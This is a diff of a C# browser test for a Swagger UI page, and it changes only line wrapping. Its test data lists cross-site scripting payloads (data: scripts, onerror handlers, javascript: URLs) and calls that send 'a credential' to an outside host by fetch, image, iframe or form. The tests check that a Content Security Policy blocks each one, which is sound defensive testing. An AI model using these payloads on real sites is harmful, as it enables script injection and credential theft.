@@ -15,10 +15,12 @@ internal sealed class SwaggerUiTests : BrowserTest
         ("add('script', { src: 'data:text/javascript,ran()' })", "script-src-elem"),
         ("add('p', { innerHTML: '<img src=\"data:,\" onerror=\"ran()\">' })", "script-src-attr"),
         ("location = 'javascript:ran()'", "script-src-elem"),
-        ("fetch(elsewhere, { method: 'POST', mode: 'no-cors', body: 'a credential' }).then(ran, () => {})", "connect-src"),
+        ("fetch(elsewhere, { method: 'POST', mode: 'no-cors', body: 'a credential' }).then(ran, () => {})",
+            "connect-src"),
         ("add('img', { src: elsewhere + '?a-credential', onerror: ran })", "img-src"),
         ("add('iframe', { src: elsewhere + '?a-credential', onload: ran })", "frame-src"),
-        ("add('iframe', { name: 'there' }).onload = ran; add('form', { action: elsewhere, target: 'there' }).submit()", "form-action"),
+        ("add('iframe', { name: 'there' }).onload = ran; add('form', { action: elsewhere, target: 'there' }).submit()",
+            "form-action"),
     ];
 
     [Test]
@@ -48,8 +50,11 @@ internal sealed class SwaggerUiTests : BrowserTest
         await Fill("key", key);
         await Click(".execute");
 
-        await Page.Until($"{Operation}.querySelector('.live-responses-table .response .response-col_status')?.textContent.startsWith('200') === true");
-        await Page.Until($"{Operation}.querySelector('.live-responses-table').textContent.includes('the value that was tried')");
+        await Page.Until(
+            $"{Operation}.querySelector('.live-responses-table .response "
+                + ".response-col_status')?.textContent.startsWith('200') === true");
+        await Page.Until(
+            $"{Operation}.querySelector('.live-responses-table').textContent.includes('the value that was tried')");
         Assert.That(Page.Complaints, Is.Empty);
     }
 
@@ -60,7 +65,9 @@ internal sealed class SwaggerUiTests : BrowserTest
         await Page.BePhone(width, 740);
         await GoToSwaggerUi();
         await Page.Until("document.querySelector('section.models') !== null");
-        Assert.That(await Page.Evaluate<bool>("document.querySelector('section.models').classList.contains('is-open')"), Is.False);
+        Assert.That(
+            await Page.Evaluate<bool>("document.querySelector('section.models').classList.contains('is-open')"),
+            Is.False);
 
         await Click(".opblock-summary-control");
         await Click(".try-out__btn");
@@ -126,7 +133,8 @@ internal sealed class SwaggerUiTests : BrowserTest
     }
 
     private async Task<IEnumerable<string>> Documented() =>
-        from path in (await Kv.Send(HttpMethod.Get, "/swagger/v1/swagger.json")).Json.GetProperty("paths").EnumerateObject()
+        from path in (await Kv.Send(HttpMethod.Get, "/swagger/v1/swagger.json")).Json.GetProperty("paths")
+            .EnumerateObject()
         from operation in path.Value.EnumerateObject()
         where operation.Value.ValueKind == JsonValueKind.Object
         select $"{operation.Name.ToUpperInvariant()} {path.Name}";
